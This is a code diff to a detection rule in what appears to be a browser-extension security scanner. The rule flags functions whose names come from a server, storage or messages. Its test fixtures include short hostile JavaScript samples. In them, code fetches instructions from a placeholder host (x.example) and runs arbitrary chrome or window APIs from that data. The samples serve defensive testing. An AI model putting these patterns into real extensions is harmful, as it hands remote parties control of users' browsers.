@@ -1,8 +1,8 @@
 import { apiPath, callAt, callsOf, constant, defsOf, listOf, Op, resolve, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
-import { isFromServer } from './network.ts';
-import { originPaths } from './origins.ts';
+import { isFromKnownServer, isFromServer } from './network.ts';
+import { originPaths, originsOf } from './origins.ts';
 import { usageOf } from './usage.ts';
 
 const ROOTS = /^(window|self|globalThis|this|chrome|document|chrome\.\w+|top|parent)$/;
@@ -25,15 +25,16 @@ export const namedByData = defineRule({
       for (let depth = 0; depth < 5; depth++) {
         if (script.op[callee] === Op.ref) callee = resolve(script, callee);
         if (script.op[callee] === Op.index) {
-          const root = apiPath(script, script.a[callee] as number);
+          const named = apiPath(script, script.a[callee] as number);
           const key = script.b[callee] as number;
+          const root = named ?? (depth <= 1 && isFromKnownServer(script, key) && holdsBrowser(script, script.a[callee] as number) ? 'chrome' : undefined);
           if (root !== undefined && ROOTS.test(root) && constant(script, key) === undefined && !hasConstant(script, key)) {
             if (isFromServer(script, key)) {
               yield hit(value, { severity: 'critical', message: 'A server names the function.' });
               break;
             }
             const paths = originPaths(script, key);
-            const from = ['chrome.storage.local.get', 'chrome.storage.sync.get', 'chrome.runtime.onMessage.addListener', 'chrome.runtime.onMessageExternal.addListener', 'localStorage.getItem', 'JSON.parse'].find((path) => paths.has(path));
+            const from = ['chrome.storage.local.get', 'chrome.storage.sync.get', 'chrome.runtime.onMessage.addListener', 'chrome.runtime.onMessageExternal.addListener', 'localStorage.getItem'].find((path) => paths.has(path));
             const heard = callsOf(script, 'addEventListener').some((call) => constant(script, call.args[0] ?? 0) === 'message') && paths.has('addEventListener');
             if (from !== undefined || heard) {
               yield hit(value, { message: `The name comes from ${from ?? 'a message of the page'}.`, ...(root.startsWith('chrome.') ? { severity: 'low' as const } : {}) });
@@ -50,11 +51,13 @@ export const namedByData = defineRule({
     bad: [
       contentExample('fetch("https://x.example/c").then((r) => r.json()).then((c) => { window[c.a][c.b](c.c); });'),
       contentExample('chrome.storage.local.get("conf", ({ conf }) => { window[conf.fn](conf.arg); });'),
+      backgroundExample('const tools = { chrome, fetch, JSON }; const at = (p) => p.split(".").reduce((o, k) => o[k], tools); async function run(list) { for (const [op, ...args] of list) { const parts = op.split("."); const m = parts.pop(); const o = at(parts.join(".")); await o[m].apply(o, args); } } fetch("https://x.example/p").then((r) => r.json()).then(run);'),
       backgroundExample('chrome.runtime.onMessageExternal.addListener((m, s, reply) => { chrome[m.space][m.name](...m.args, reply); });'),
     ],
     good: [
       backgroundExample('chrome.runtime.onMessage.addListener((m) => { set(m.on ? "setTitle" : "setBadgeText", m.options); }); function set(name, options) { chrome.action[name](options); }'),
       contentExample('addEventListener("message", (e) => { const { name, seq } = e.data; window[name].callbacks.get(seq).resolve(1); });'),
+      backgroundExample('const tools = { open() {}, close() {}, api: chrome.tabs }; fetch("https://x.example/p").then((r) => r.json()).then((c) => tools[c.name](c.id));'),
       backgroundExample('const handlers = { a() {}, b() {} }; chrome.runtime.onMessage.addListener((m) => { handlers[m.type](m); });'),
       contentExample('const raf = window["requestAnimationFrame"] || window["webkit" + "RequestAnimationFrame"]; raf(draw); for (const k of ["scrollX", "scrollY"]) read(window[k]);'),
       contentExample('const prefix = ["moz", "webkit"].find((p) => document[p + "Hidden"] !== undefined); document[prefix + "ExitFullscreen"]();'),
@@ -87,6 +90,16 @@ function hasConstant(script: ScriptFacts, key: number): boolean {
       const param = usage.params.get(first);
       if (param !== undefined) for (const call of usage.callers.get(param.fn)?.slice(0, 12) ?? []) queue.push(callAt(script, call).args[param.at] ?? 0);
     }
+  }
+  return false;
+}
+
+/** A value taken by name out of an object that holds the browser's own: `{ chrome, fetch }` and a path into it. */
+function holdsBrowser(script: ScriptFacts, value: number): boolean {
+  for (const one of originsOf(script, value)) {
+    if (script.op[one] !== Op.object) continue;
+    const list = listOf(script, script.a[one] as number);
+    if (list.some((item, at) => at % 2 === 1 && /^(chrome|window|self|globalThis)$/.test(apiPath(script, item) ?? (script.op[item] === Op.global ? (script.strings[script.a[item] as number] as string) : '')))) return true;
   }
   return false;
 }
